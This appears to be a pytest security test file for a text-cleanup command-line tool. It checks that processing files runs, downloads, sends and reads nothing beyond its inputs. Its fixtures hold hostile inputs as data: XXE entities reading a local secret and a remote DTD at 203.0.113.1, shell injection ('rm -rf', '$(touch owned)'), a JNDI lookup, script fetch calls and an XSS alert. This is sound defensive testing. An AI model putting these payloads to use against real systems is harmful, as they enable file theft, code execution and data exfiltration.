"""What `cleanup help security` promises, seen from outside: what the process opens, starts and connects to."""

from __future__ import annotations

from pathlib import Path

import pytest

from cleanup.manual.pages import page
from tests.cli.conftest import Cli
from tests.formats.books import epub

WATCHING = """
import sys

def watched(event, arguments, log={log!r}):
    if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn"):
        told = (event, repr(arguments)[:300])
    elif event == "open" and isinstance(arguments[0], str):
        told = (event, arguments[0])
    else:
        return
    import os
    descriptor = os.open(log, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600) if "events.log" not in told[1] else None
    if descriptor is not None:
        os.write(descriptor, (repr(told) + chr(10)).encode())
        os.close(descriptor)

sys.addaudithook(watched)
"""
ENTITIES = '<!DOCTYPE html [<!ENTITY x SYSTEM "secret.xml"><!ENTITY % y SYSTEM "http://203.0.113.1/y.dtd">%y;]>'
XHTML = (
    f'<?xml version="1.0"?>{ENTITIES}<html xmlns="http://www.w3.org/1999/xhtml">'
    "<body><p>It is , x&x;.</p></body></html>"
)
TEXTS: dict[str, str | bytes] = {
    "a.txt": "It is , `rm -rf x` $(touch owned) {{7*7}} ${jndi:ldap://203.0.113.1/x} http://203.0.113.1/z said he.\n",
    "b.md": "![a , b](http://203.0.113.1/p.png) <img src='http://203.0.113.1/q.png'> [l , m](file:///etc/hostname)\n",
    "c.xhtml": XHTML,
    "d.fb2": XHTML.replace("html", "FictionBook"),
    "e.epub": epub({"One": "<p>It is , x.</p><img src='http://203.0.113.1/p.png'/>"}),
    "f.xlf": f'<?xml version="1.0"?>{ENTITIES}<xliff version="1.2"><file><body/></file></xliff>',
    "g.html": "<script>fetch('http://203.0.113.1/')</script><iframe src='http://203.0.113.1/'></iframe><p>It , x.</p>",
}
GLOSSARY = '[[term]]\nname = "Li Mu"\nsource = "李牧"\nkind = "person"\nnote = "</script><script>alert(1)</script>"\n'
COMMANDS = [
    ["clean", "--no-grammar", "--write", "-j1", "novel"],
    ["clean", "--no-grammar", "--write", "-j2", "novel"],
    ["clean", "-j1", "novel"],
    ["check", "-j1", "novel"],
    ["glossary", "discover", "novel"],
    ["glossary", "stats", "novel"],
    ["glossary", "report", "--html", "out.html", "novel"],
    ["glossary", "import", "--format", "tbx", "novel/c.xhtml"],
]


@pytest.mark.slow
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_nothing_is_run_downloaded_or_sent(cli: Cli, command: list[str]) -> None:
    for name, content in TEXTS.items():
        cli.write(f"novel/{name}", content)
    cli.write("cleanup.toml", 'packs = []\nglossaries = ["glossary.toml"]\n')
    cli.write("glossary.toml", GLOSSARY)
    cli.write("novel/secret.xml", "secret")
    log = cli.folder / "events.log"
    cli.at_start(WATCHING.format(log=str(log)), in_copies=False)
    cli(*command)
    events = [eval(line) for line in log.read_text("utf-8").splitlines()]
    assert any((event == "open" and "a.txt" in what) or "c.xhtml" in what for event, what in events)
    assert [what for _event, what in events if "203.0.113" in what] == []
    # The workers of a run speak to the process that leads it.
    assert [what for event, what in events if event.startswith("socket") and "'127.0.0.1'" not in what] == []
    assert [what for event, what in events if event == "open" and ("hostname" in what or "secret.xml" in what)] == []
    own = ("python", "-c", "spawn", "multiprocessing")  # the workers of a run and the embedded engines
    assert [what for event, what in events if event == "subprocess.Popen" and not any(o in what for o in own)] == []
    assert not list(cli.folder.rglob("owned"))
    if "--html" in command:
        assert (cli.folder / "out.html").read_text("utf-8").count("<script>alert") == 0


def test_a_project_cannot_send_texts_away(cli: Cli) -> None:
    cli.write("a.txt")
    cli.write("cleanup.toml", '[grammar]\nengine = "languagetool"\nurl = "http://203.0.113.1:8081"\n')
    done = cli("check", "a.txt")
    assert done.returncode == 2
    assert b"may not send texts to another machine" in done.stderr


def test_every_paragraph_of_the_page_is_held_by_a_test() -> None:
    """A new claim has to come with a test: this table says where."""
    heads = [line.split("**")[1] for line in page("security").text.splitlines() if line.startswith("**")]
    assert heads == list(HELD)
    for tests in HELD.values():
        for name in tests:
            path, _, function = name.partition("::")
            assert f"def {function}(" in (ROOT / path).read_text("utf-8"), name


ROOT = Path(__file__).resolve().parents[2]
HELD = {
    "Texts are data.": (
        "tests/cli/test_security.py::test_nothing_is_run_downloaded_or_sent",
        "tests/cli/test_paths.py::test_a_file_that_is_too_large_is_refused",
        "tests/test_bounded.py::test_a_pattern_that_takes_for_ever_is_told",
    ),
    "Configuration and glossary are data, too.": (
        "tests/cli/test_security.py::test_a_project_cannot_send_texts_away",
        "tests/gate/test_git_guards.py::test_nothing_that_a_repository_configures_is_run",
        "tests/files/test_structured.py::test_toml",
    ),
    "Nothing outside is touched.": (
        "tests/cli/test_paths.py::test_links_out_of_a_folder_are_not_followed",
        "tests/cli/test_paths.py::test_special_files_are_named_and_skipped",
        "tests/cli/test_paths.py::test_another_name_of_a_file_is_told",
        "tests/cli/test_paths.py::test_what_is_mirrored_stays_in_the_output_folder",
        "tests/cli/test_paths.py::test_an_output_that_is_an_input_or_another_output_is_refused",
        "tests/files/test_write.py::test_a_file_of_another_owner_that_would_change_hands_is_refused",
        "tests/files/test_write.py::test_owner_and_mode_stay_when_root_writes",
        "tests/cli/test_write_faults.py::test_every_call_fails_in_turn",
        "tests/cli/test_full_disk.py::test_a_full_disk_is_told_and_nothing_is_lost",
        "tests/glossary/test_review.py::test_what_was_noted_is_carried_out_after_a_kill",
    ),
    "Nothing is downloaded or sent by itself.": (
        "tests/cli/test_security.py::test_nothing_is_run_downloaded_or_sent",
        "tests/grammar/test_install.py::test_a_download_with_another_checksum",
        "tests/grammar/test_kept.py::test_a_note_that_others_may_have_written_is_not_believed",
    ),
    "The cache decides nothing.": (
        "tests/test_store_faults.py::test_every_call_of_sqlite_fails_in_turn",
        "tests/test_store_faults.py::test_what_others_can_write_is_not_believed",
        "tests/test_store_faults.py::test_what_belongs_to_another_user_is_not_believed",
    ),
    "Engines run apart.": (
        "tests/grammar/test_isolation.py::test_a_killed_engine_is_started_again",
        "tests/grammar/test_isolation.py::test_a_hung_engine_is_stopped_and_what_got_no_answer_is_unchecked",
    ),
    "Output is safe to look at.": (
        "tests/cli/test_escapes.py::test_names_and_words_of_files",
        "tests/cli/test_glossary_report.py::test_it_needs_nothing_else",
        "tests/glossary/test_import_tables.py::test_no_cell_is_a_formula_and_all_come_back",
    ),
}
